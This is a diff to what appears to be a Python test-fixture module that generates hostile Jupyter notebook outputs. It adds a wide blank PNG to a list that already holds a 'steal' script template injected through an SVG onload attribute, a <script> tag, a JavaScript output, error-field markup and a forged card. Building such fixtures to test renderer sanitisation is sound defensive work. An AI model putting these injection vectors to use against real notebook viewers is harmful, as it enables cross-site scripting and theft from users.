@@ -2,7 +2,10 @@
 
 import base64
 import copy
+import io
 
+import numpy as np
+from matplotlib.image import imsave
 from nbformat import NotebookNode
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
 
@@ -99,7 +102,8 @@ def claimed(prepared: NotebookNode, url: str) -> NotebookNode:
 def _outputs(url: str) -> list[NotebookNode]:
     steal = STEAL.format(url=url)
     svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{steal}"></svg>'
-    data = [{"text/html": text} for text in [*markup(url), forged_card()]]
+    data = [{"image/png": _wide_picture()}]
+    data += [{"text/html": text} for text in [*markup(url), forged_card()]]
     data += [
         {"application/javascript": steal},
         {"image/svg+xml": svg},
@@ -115,6 +119,12 @@ def _outputs(url: str) -> list[NotebookNode]:
     printed = new_output("stream", text=f"{badge}<script>{steal}</script>" + "W" * 5_000)
     error = new_output("error", ename=markup(url)[0], evalue=markup(url)[1], traceback=[badge])
     return [printed, error, *shown]
+
+
+def _wide_picture() -> str:
+    file = io.BytesIO()
+    imsave(file, np.zeros((10, 2000)))
+    return base64.b64encode(file.getvalue()).decode()
 
 
 def _isolated() -> dict[str, object]:
